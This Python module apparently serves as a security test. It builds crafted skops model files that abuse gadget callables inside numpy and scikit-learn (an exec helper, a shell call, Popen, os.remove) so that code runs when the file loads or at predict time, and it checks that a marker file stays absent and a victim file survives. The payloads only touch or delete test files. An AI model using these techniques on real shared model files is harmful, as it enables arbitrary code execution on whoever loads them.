"""Crafted skops files that run code when loaded by a loader that trusts by prefix.

Each gadget is a real callable inside numpy, scipy or scikit-learn (as its module path says),
put where skops calls it: as the class of a ConstructorFromReduceNode (called with the file's
arguments while loading) or as a FunctionTransformer's `func` (called at predict time).
"""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer

X = np.random.default_rng(0).random((40, 3))
Y = np.arange(40) % 2

# name -> (module, attribute, arguments making `marker` appear or `victim` disappear)
GADGETS = {
    "runstring-exec": ("numpy.testing._private.utils", "runstring",
                       lambda m, v: (f"open({str(m)!r}, 'w').close()", {})),
    "getstatusoutput-shell": ("numpy.distutils.cpuinfo", "getstatusoutput",
                              lambda m, v: (f"touch {m}",)),
    "popen-class": ("numpy.distutils.fcompiler.gnu", "Popen",
                    lambda m, v: (["touch", str(m)],)),
    "os-remove": ("sklearn.datasets._rcv1", "remove", lambda m, v: (str(v),)),
}  # fmt: skip


def _read(data: bytes) -> tuple[dict[str, Any], dict[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        files = {n: archive.read(n) for n in archive.namelist() if n != "schema.json"}
        return json.loads(archive.read("schema.json")), files


def _write(schema: dict[str, Any], files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def constructor_gadget(module: str, name: str, args: tuple[Any, ...]) -> bytes:
    """A fitted LogisticRegression whose attribute `extra` is `module.name(*args)`, called
    while the file loads."""
    import skops.io

    model = LogisticRegression().fit(X, Y)
    model.extra = args
    schema, files = _read(skops.io.dumps(model))
    node = schema["content"]["content"]["extra"]  # the tuple of arguments
    schema["content"]["content"]["extra"] = {
        "__class__": name, "__module__": module, "__loader__": "ConstructorFromReduceNode",
        "content": node, "__id__": node["__id__"] + 1,
    }  # fmt: skip
    return _write(schema, files)


def function_gadget(module: str, name: str) -> bytes:
    """A pipeline whose FunctionTransformer calls `module.name` on every prediction."""
    import skops.io

    model = make_pipeline(FunctionTransformer(np.log1p), LogisticRegression()).fit(X, Y)
    schema, files = _read(skops.io.dumps(model))
    steps = schema["content"]["content"]["steps"]["content"]
    func = steps[0]["content"][1]["content"]["content"]["func"]
    func["__module__"], func["__class__"] = module, name
    return _write(schema, files)


def untouched(marker: Path, victim: Path) -> bool:
    """No marker was made and the victim file is still there (a Popen gets a moment)."""
    import time

    time.sleep(0.2)
    return not marker.exists() and victim.exists()
